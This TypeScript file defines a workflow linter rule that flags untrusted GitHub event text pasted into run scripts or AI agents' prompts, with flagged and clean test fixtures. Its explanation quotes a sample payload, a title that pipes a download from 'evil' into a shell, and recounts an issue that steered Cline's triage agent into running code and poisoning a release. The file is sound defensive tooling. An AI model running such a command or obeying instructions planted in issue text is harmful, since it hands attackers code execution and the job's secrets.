import { z } from 'zod';
import type { Rule } from '../rule.ts';
import { addedItems } from './_added.ts';
import { expressionsOf, inputsOf, wantedValue } from './_untrusted.ts';
import { workflowNeeds } from './_needs.ts';
import type { Job, Step, Workflow } from '../../parsers/workflows.ts';
import type { YamlScalar } from '../../parsers/yaml.ts';

interface Injection {
  readonly line: number;
  readonly key: string;
  readonly value: string;
  readonly into: 'script' | 'prompt';
}

/** Inputs that actions run as a script. */
const SCRIPT_INPUTS = new Set([
  'script',
  'run',
  'command',
  'commands',
  'cmd',
  'inlinescript',
  'github-script',
]);

/** Actions that hand their inputs to a model which can run tools. */
const AGENT_ACTIONS =
  /^(?:anthropics\/claude-code(?:-base)?-action|openai\/codex-action|google-github-actions\/run-gemini-cli|google-gemini\/[\w-]*gemini[\w-]*|actions\/ai-inference|cursor\/[\w-]+|sst\/opencode|anomalyco\/opencode|qwenlm\/[\w-]+|block\/goose|augmentcode\/[\w-]+|all-hands-ai\/[\w-]+|openhands\/[\w-]+|warpdotdev\/[\w-]+)(?:\/|@|$)/i;
const PROMPT_INPUT = /instructions|^claude_args$|^codex-args$|^settings$|^task$|^message$/;
/** Whatever the action is called, text that an input of this name takes is read by a model. */
const PROMPT = /prompt(?!.*-file$)/;

function sinksOf(step: Step): { node: YamlScalar; into: Injection['into'] }[] {
  const uses = step.uses?.text ?? '';
  const inputs = [...inputsOf(step.with)];
  const scripts = inputs.filter(([name]) => SCRIPT_INPUTS.has(name)).map(([, node]) => node);
  const agent = AGENT_ACTIONS.test(uses);
  const prompts = inputs
    .filter(([name]) => PROMPT.test(name) || (agent && PROMPT_INPUT.test(name)))
    .map(([, node]) => node);
  return [
    ...[...(step.run ? [step.run] : []), ...scripts].map((node) => ({ node, into: 'script' as const })),
    ...prompts.map((node) => ({ node, into: 'prompt' as const })),
  ];
}

function injectionsOf(workflow: Workflow): Injection[] {
  const ofStep = (job: Job, step: Step): Injection[] =>
    sinksOf(step).flatMap(({ node, into }) =>
      expressionsOf(workflow, node).flatMap(({ raw, line }) => {
        const value = wantedValue(raw, 'anyones text', [step.env, job.env, workflow.env]);
        return value === null ? [] : [{ line, key: `${into} ${value}`, value, into }];
      }),
    );
  return workflow.jobs.flatMap((job) => job.steps.flatMap((step) => ofStep(job, step)));
}

const MESSAGES: Record<Injection['into'], (value: string) => string> = {
  script: (value) =>
    `\`${value}\` is pasted into a script before the shell or interpreter reads it, so whoever writes that text can run commands with this job's token and secrets. Pass it through \`env:\` and use the variable in quotes.`,
  prompt: (value) =>
    `\`${value}\` is pasted into an agent's prompt, so whoever writes that text can instruct the agent with this job's token and secrets. Let the agent fetch the text as data with tools that can only read, and give the job no secrets.`,
};

const run = (line: string): string =>
  `on: [issues, pull_request]\njobs:\n  greet:\n    steps:\n      - run: |\n          set -e\n          ${line}\n`;

export const templateInjection: Rule<Record<string, never>> = {
  id: 'template-injection',
  family: 'workflow-privilege',
  summary: "Text that anyone can write is pasted into a workflow's script or an agent's prompt.",
  why: 'GitHub replaces `${{ }}` before anything runs, so a title such as `"; curl evil | sh` becomes part of the script. The same path leads into the prompts of agents in workflows: an issue told Cline\'s triage agent in early 2026 to run code, which ended in a poisoned release.',
  remediation:
    'Put the value into `env:` and use `"$TITLE"` in the script (`process.env.TITLE` in github-script). Give agents in workflows the text as data, read-only tools and no secrets.',
  severity: 'high',
  action: 'review',
  options: z.strictObject({}),
  needs: workflowNeeds,
  inspect(facts) {
    const added = addedItems(facts, injectionsOf);
    return (['script', 'prompt'] as const).flatMap((into) => {
      const items = added.filter((item) => item.into === into);
      const first = items[0];
      if (!first) return [];
      const places = new Map(items.map(({ place }) => [`${place.path}:${place.line}`, place]));
      return [
        {
          rule: 'template-injection',
          family: 'workflow-privilege' as const,
          severity: 'high' as const,
          message: MESSAGES[into](first.value),
          places: [...places.values()],
        },
      ];
    });
  },
  flagged: [
    {
      name: 'an issue title in a script',
      files: [
        {
          path: '.github/workflows/greet.yml',
          before: run('echo hello'),
          after: run('echo "${{ github.event.issue.title }}"'),
        },
      ],
      places: [{ path: '.github/workflows/greet.yml', line: 7, side: 'head' }],
    },
    {
      name: 'a branch name in github-script, in brackets and by way of env',
      files: [
        {
          path: '.github/workflows/a.yml',
          before: null,
          after:
            "on: pull_request\nenv:\n  REF: ${{ github['head_ref'] }}\njobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const ref = '${{ env.REF }}'\n",
        },
      ],
      places: [{ path: '.github/workflows/a.yml', line: 10, side: 'head' }],
    },
    {
      name: 'a comment in the prompt of an agent',
      files: [
        {
          path: '.github/workflows/triage.yml',
          before: null,
          after:
            'on: issues\njobs:\n  a:\n    steps:\n      - uses: anthropics/claude-code-action@v1\n        with:\n          prompt: "Triage: ${{ github.event.issue.body }}"\n',
        },
      ],
      places: [{ path: '.github/workflows/triage.yml', line: 7, side: 'head' }],
    },
    {
      name: 'the whole event in a composite action',
      files: [
        {
          path: 'tools/notify/action.yml',
          before: null,
          after:
            "runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: echo '${{ toJSON(github.event) }}' > event.json\n",
        },
      ],
      places: [{ path: 'tools/notify/action.yml', line: 5, side: 'head' }],
    },
  ],
  clean: [
    {
      name: 'passed through the environment',
      files: [
        {
          path: '.github/workflows/greet.yml',
          before: null,
          after:
            'on: issues\njobs:\n  a:\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"\n',
        },
      ],
    },
    {
      name: 'only compared',
      files: [
        {
          path: '.github/workflows/greet.yml',
          before: null,
          after: run("echo ${{ contains(github.event.comment.body, '/run') && 'yes' || 'no' }}"),
        },
      ],
    },
    {
      name: 'values that nobody can choose freely',
      files: [
        {
          path: '.github/workflows/greet.yml',
          before: null,
          after: run('echo ${{ github.event.issue.number }} ${{ github.sha }} ${{ github.actor }}'),
        },
      ],
    },
    {
      name: 'there before, now in a renamed and reindented step',
      files: [
        {
          path: '.github/workflows/greet.yml',
          before: run('echo "${{ github.event.issue.title }}"'),
          after: run('if true; then\n            echo "${{github.event.issue.title}}"\n          fi'),
        },
      ],
    },
  ],
};
